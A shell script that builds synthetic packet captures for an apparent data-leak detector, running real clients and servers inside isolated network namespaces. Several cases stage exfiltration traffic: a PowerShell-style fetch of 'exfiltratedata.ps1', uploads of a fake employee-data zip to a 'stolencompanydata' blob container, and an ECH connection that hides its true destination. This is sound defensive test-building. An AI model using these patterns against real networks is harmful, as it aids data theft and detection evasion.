#!/bin/sh
# Makes the bundled captures anew: real clients (Azure SDK, curl, openssl, Chromium) against real servers (Azurite, nginx) between network namespaces,
# recorded with tcpdump; addresses rewritten with tcprewrite, times with editcap; endpoint events and expected findings written from what happened.
# Needs root and: nodejs npm nginx dnsmasq-base curl openssl tcpdump tshark tcpreplay iproute2 ethtool zstd 7zip (or p7zip-full) chromium libnss3-tools.
# Nothing leaves the namespaces; keys live in a temporary directory that is removed. Usage: sh pcaps/make/make_pcaps.sh [CASE...]
set -eu
cd "$(dirname "$0")"
here=$PWD
pcaps=$(dirname "$here")
work=$(mktemp -d)
mkdir -p "$work/www" "$work/body" "$work/cap" "$pcaps/captures" "$pcaps/events" "$pcaps/expected"
client=leaktap-c server=leaktap-s
pids=

stop_all()
{
	for p in $pids; do kill "$p" 2>/dev/null || true; done
	ip netns del $client 2>/dev/null || true
	ip netns del $server 2>/dev/null || true
	rm -rf "$work" /etc/netns/$client
}
trap stop_all EXIT INT TERM

# host, address inside the namespaces, public address it is rewritten to, back end (port on the server's loopback)
hosts="
raw.githubusercontent.com 10.77.9.1 185.199.108.133 9000
sacyberrange00.blob.core.windows.net 10.77.9.2 20.60.181.193 10000
sacyberrangedanger.blob.core.windows.net 10.77.9.3 20.60.133.132 10000
content.dropboxapi.com 10.77.9.4 162.125.65.14 9000
t8.dropbox.com 10.77.9.5 162.125.21.3 9000
ceuswatcab01.blob.core.windows.net 10.77.9.6 20.60.241.65 10000
browser.events.data.microsoft.com 10.77.9.7 20.189.173.16 9000
cloudflare-ech.com 10.77.9.8 104.18.10.118 9000
stlabbackup.blob.core.windows.net 10.77.9.9 20.150.38.228 10000
doh.lab.test 10.77.9.10 10.20.0.54 9001
"
each_host() { echo "$hosts" | while read -r name inner outer port; do if [ -n "$name" ]; then "$@" "$name" "$inner" "$outer" "$port"; fi; done; }

namespaces()
{
	ip netns add $client
	ip netns add $server
	ip link add c0 netns $client type veth peer name s0 netns $server
	for n in $client $server; do ip -n $n link set lo up; done
	for a in 17 18 21 22 23 24 25 26; do ip -n $client addr add 10.20.4.$a/16 dev c0; done
	ip -n $server addr add 10.20.0.53/16 dev s0
	each_host add_address
	ip -n $client link set c0 up
	ip -n $server link set s0 up
	ip -n $client route add 10.77.9.0/24 dev c0
	ip -n $server route add 10.20.0.0/16 dev s0 2>/dev/null || true
	ip netns exec $client ethtool -K c0 tso off gso off gro off tx off >/dev/null 2>&1
	ip netns exec $server ethtool -K s0 tso off gso off gro off tx off >/dev/null 2>&1
	mkdir -p /etc/netns/$client
	{ echo "127.0.0.1 localhost"; each_host echo_host; } >/etc/netns/$client/hosts
}
add_address() { ip -n $server addr add "$2/32" dev s0; }
echo_host() { echo "$2 $1"; }
echo_dns() { echo "address=/$1/$3"; }

# A chain as long as public services send: leaf with many names, two intermediates, some 4 KB on the wire.
certificates()
{
	cd "$work"
	names=$(each_host echo_name | tr '\n' ',')
	many=$(for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18; do printf 'DNS:*.z%02d.blob.storage.azure.net,' $i; done)
	openssl req -x509 -newkey rsa:4096 -nodes -keyout root.key -out root.pem -days 30 -subj "/O=Lab Trust/CN=Lab Root" 2>/dev/null
	ca root root 'Lab RSA TLS Issuing CA 03' inter
	ca inter inter 'Lab Azure RSA TLS Issuing CA 07' issuer
	openssl req -newkey rsa:2048 -nodes -keyout leaf.key -out leaf.csr -subj "/C=US/ST=WA/L=Redmond/O=Lab/CN=*.blob.core.windows.net" 2>/dev/null
	printf 'subjectAltName=%s%sDNS:*.blob.core.windows.net\nextendedKeyUsage=serverAuth\n' "$names" "$many" >leaf.ext
	openssl x509 -req -in leaf.csr -CA issuer.pem -CAkey issuer.key -CAcreateserial -days 20 -extfile leaf.ext -out leaf.pem 2>/dev/null
	cat leaf.pem issuer.pem inter.pem >chain.pem
	cd "$here"
}
echo_name() { echo "DNS:$1"; }
ca()
{
	openssl req -newkey rsa:2048 -nodes -keyout "$4.key" -out "$4.csr" -subj "/C=US/O=Lab Trust/CN=$3" 2>/dev/null
	printf 'basicConstraints=critical,CA:TRUE\nkeyUsage=keyCertSign,cRLSign\n' >"$4.ext"
	openssl x509 -req -in "$4.csr" -CA "$1.pem" -CAkey "$2.key" -CAcreateserial -days 25 -extfile "$4.ext" -out "$4.pem" 2>/dev/null
}

site()
{
	echo "server { listen $2:443 ssl; server_name $1; ssl_certificate $work/chain.pem; ssl_certificate_key $work/leaf.key;" \
		"location / { proxy_pass http://127.0.0.1:$4; proxy_set_header Host \$host; } }"
}

servers()
{
	[ -d node_modules/azurite ] || npm install --no-audit --no-fund >/dev/null 2>&1
	key=$(openssl rand -base64 64 | tr -d '\n')
	accounts=$(for a in sacyberrange00 sacyberrangedanger ceuswatcab01 stlabbackup; do printf '%s:%s;' "$a" "$key"; done)
	AZURITE_ACCOUNTS="$accounts" ip netns exec $server node node_modules/.bin/azurite-blob --silent --skipApiVersionCheck \
		--location "$work/azurite" --blobHost 127.0.0.1 --blobPort 10000 >"$work/azurite.log" 2>&1 &
	pids="$pids $!"
	ip netns exec $server node sink.mjs 9000 >"$work/sink.log" 2>&1 &
	pids="$pids $!"
	ip netns exec $server node doh.mjs 9001 drop.hidden.example 10.77.9.8 cloudflare-ech.com >"$work/doh.log" 2>&1 &
	pids="$pids $!"
	sites=$(each_host site | tr '\n' ' ')
	sed -e "s#@DIR@#$work#g" -e "s#@SITES@#$sites#" nginx.conf.in >"$work/nginx.conf"
	ip netns exec $server nginx -c "$work/nginx.conf" >"$work/nginx.log" 2>&1 &
	pids="$pids $!"
	{ echo "no-resolv"; echo "listen-address=10.20.0.53"; echo "bind-interfaces"; echo "no-hosts"; each_host echo_dns; } >"$work/dns.conf"
	ip netns exec $server dnsmasq -k -C "$work/dns.conf" --pid-file="$work/dns.pid" -u root >"$work/dns.log" 2>&1 &
	pids="$pids $!"
	sleep 4
}

in_client() { ip netns exec $client "$@"; }
blob() { in_client env NODE_EXTRA_CA_CERTS="$work/root.pem" node $tls_max blob.mjs "$@"; }
get() { in_client curl -s --cacert "$work/root.pem" $tls_curl "$@"; }
resolve() { in_client node resolve.mjs 10.20.0.53 "$@" >/dev/null; }
tls_max= tls_curl=

record()
{
	ip netns exec $client tcpdump -i c0 -s 0 -B 65536 -w "$work/cap/$1.pcap" --immediate-mode 'not arp and not ip6' 2>"$work/cap/$1.log" &
	recorder=$!
	sleep 1.5
}
stop_recording()
{
	sleep 1
	kill -INT "$recorder"
	wait "$recorder" 2>/dev/null || true
}

# A lab machine answers from one of the addresses by source route: connections are bound to it by a route of its own.
from()
{
	ip -n $client route replace 10.77.9.0/24 dev c0 src "10.20.4.$1"
	ip -n $client route replace 10.20.0.53/32 dev c0 src "10.20.4.$1"
}

payloads()
{
	head -c 1600000 /dev/urandom >"$work/7z2408-x64.exe"
	i=0
	: >"$work/employee-data.csv"
	while [ $i -lt 20 ]; do echo "$i,employee $i,$(openssl rand -hex 24)" >>"$work/employee-data.csv"; i=$((i + 1)); done
	(cd "$work" && python3 -c "import zipfile; z=zipfile.ZipFile('employee-data-20260302091420.zip','w',zipfile.ZIP_DEFLATED); z.write('employee-data.csv')")
	head -c 52428800 /dev/urandom >"$work/50m.bin"
	head -c 5242880 /dev/urandom >"$work/memory.cab"
	head -c 200000 /dev/urandom >"$work/200k.bin"
	head -c 3000 /dev/urandom | base64 -w0 >"$work/events.json"
	tls_max= 
	blob make sacyberrange00 "$key" tools 7z2408-x64.exe "$work/7z2408-x64.exe"
	for a in sacyberrangedanger ceuswatcab01 stlabbackup; do blob make $a "$key" stolencompanydata first "$work/events.json"; done
}

lab()
{
	from "$2"
	record "$1"
	resolve raw.githubusercontent.com
	get -o /dev/null -A "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4648" https://raw.githubusercontent.com/lab/exfiltratedata.ps1
	sleep 2
	resolve sacyberrange00.blob.core.windows.net
	blob get sacyberrange00 "$key" tools 7z2408-x64.exe >/dev/null
	sleep 8
	resolve sacyberrangedanger.blob.core.windows.net
	blob put sacyberrangedanger "$key" stolencompanydata employee-data-20260302091420.zip "$work/employee-data-20260302091420.zip"
	stop_recording
}
case_lab_tls12() { tls_max=--tls-max-v1.2 tls_curl=--tls-max\ 1.2; lab lab_tls12 17; }
case_lab_tls13() { tls_max=--tls-min-v1.3 tls_curl=--tlsv1.3; lab lab_tls13 18; }

case_dropbox_put_50mb()
{
	from 24
	tls_curl=
	record dropbox_put_50mb
	resolve content.dropboxapi.com
	get -o /dev/null --http1.1 -H 'Expect:' -T "$work/50m.bin" https://content.dropboxapi.com/2/files/upload
	stop_recording
}
case_dropbox_telemetry()
{
	from 21
	record dropbox_telemetry
	resolve t8.dropbox.com
	get -o /dev/null --data-binary "@$work/200k.bin" -A "DropboxDesktopClient/210.4" https://t8.dropbox.com/
	stop_recording
}
case_werfault()
{
	from 22
	tls_max=
	record werfault
	resolve ceuswatcab01.blob.core.windows.net
	blob put ceuswatcab01 "$key" stolencompanydata memory.cab "$work/memory.cab"
	stop_recording
}
case_ms_telemetry()
{
	from 23
	record ms_telemetry
	get -o /dev/null --data-binary "@$work/events.json" https://browser.events.data.microsoft.com/OneCollector/1.0
	stop_recording
}
case_dns_named()
{
	from 25
	record dns_named
	resolve stlabbackup.blob.core.windows.net
	{ printf 'PUT /drop HTTP/1.1\r\nHost: stlabbackup.blob.core.windows.net\r\nConnection: close\r\nContent-Length: 20000\r\n\r\n'
	  head -c 20000 "$work/200k.bin"; sleep 1; } |
		in_client openssl s_client -connect 10.77.9.9:443 -noservername -quiet -CAfile "$work/root.pem" >/dev/null 2>&1 || true
	stop_recording
}

# Chromium asks the lab's resolver over HTTPS, learns the key of the hidden name and offers ECH under the front's name. The front cannot decrypt it and
# answers for its public name; Chromium then connects once more without ECH, which is cut away: kept are the resolver's connections and the first to
# the front. Trust comes from a certificate store of the case's own.
case_ech_outer()
{
	from 26
	home=$work/home raw=$work/cap/ech_outer.pcap
	mkdir -p "$home/.pki/nssdb" "$home/profile"
	certutil -d "sql:$home/.pki/nssdb" -N --empty-password
	certutil -d "sql:$home/.pki/nssdb" -A -t C,, -n lab -i "$work/root.pem"
	echo '{"dns_over_https":{"mode":"secure","templates":"https://doh.lab.test/dns-query"}}' >"$home/profile/Local State"
	record ech_outer
	HOME=$home in_client timeout 20 chromium --headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking \
		--disable-component-update --disable-sync --disable-extensions --disable-default-apps --disable-quic --user-data-dir="$home/profile" \
		--dump-dom https://drop.hidden.example/upload >/dev/null 2>&1 || true
	stop_recording
	ech=$(tshark -r "$raw" -Y 'ip.dst == 10.77.9.8 && tcp.flags.syn == 1' -T fields -e tcp.stream 2>/dev/null | head -1)
	[ "$(tshark -r "$raw" -Y "tcp.stream == $ech && tls.handshake.type == 1" -T fields -e tls.handshake.extensions_server_name 2>/dev/null)" = \
		cloudflare-ech.com ] || { echo "no ECH was offered"; exit 1; }
	tshark -r "$raw" -Y "ip.addr == 10.77.9.10 || tcp.stream == $ech" -F pcap -w "$raw.kept" 2>/dev/null
	mv "$raw.kept" "$raw"
}

# Start of each case on the common day; the first packet is moved there.
start_of()
{
	case $1 in
	lab_tls12) echo 2026-03-02T09:14:02.117834 ;;
	lab_tls13) echo 2026-03-02T09:41:30.402113 ;;
	dropbox_put_50mb) echo 2026-03-02T10:20:11.650021 ;;
	dropbox_telemetry) echo 2026-03-02T10:31:44.003217 ;;
	werfault) echo 2026-03-02T10:40:09.771604 ;;
	ms_telemetry) echo 2026-03-02T10:45:00.250090 ;;
	dns_named) echo 2026-03-02T10:52:37.918230 ;;
	ech_outer) echo 2026-03-02T11:03:19.335712 ;;
	esac
}

map_of() { each_host echo_map | tr '\n' ',' | sed 's/,$//'; }
echo_map() { echo "$2/32:$3/32"; }

finish()
{
	name=$1
	raw=$work/cap/$name.pcap
	first=$(tshark -r "$raw" -c 1 -T fields -e frame.time_epoch 2>/dev/null)
	shift_s=$(python3 -c "import sys,datetime; t=datetime.datetime.fromisoformat('$(start_of "$name")+00:00').timestamp(); print('%.6f' % (t-float('$first')))")
	tcprewrite --pnat="$(map_of)" --fixcsum --enet-smac=52:54:00:12:34:56 --enet-dmac=52:54:00:65:43:21 -i "$raw" -o "$work/cap/$name.addr.pcap" >/dev/null
	editcap -t "$shift_s" "$work/cap/$name.addr.pcap" "$work/cap/$name.pcapng"
	case $name in
	dropbox_put_50mb | werfault) # large: all but the first packets are cut to their headers
		editcap -r "$work/cap/$name.pcapng" "$work/cap/head.pcapng" 1-40
		editcap -s 66 "$work/cap/$name.pcapng" "$work/cap/cut.pcapng" 1-40
		mergecap -a -w "$work/cap/$name.pcapng" "$work/cap/head.pcapng" "$work/cap/cut.pcapng"
		;;
	esac
	zstd -q -19 -f "$work/cap/$name.pcapng" -o "$pcaps/captures/$name.pcapng.zst"
	echo "$name: $(wc -c <"$pcaps/captures/$name.pcapng.zst") bytes"
}

all="lab_tls12 lab_tls13 dropbox_put_50mb dropbox_telemetry werfault ms_telemetry dns_named ech_outer"
namespaces
certificates
servers
payloads
for c in ${*:-$all}; do
	echo "== $c"
	"case_$c"
	finish "$c"
done
echo "== endpoint events and expected findings"
python3 events.py "$pcaps/captures" "$pcaps/events" "$pcaps/expected"
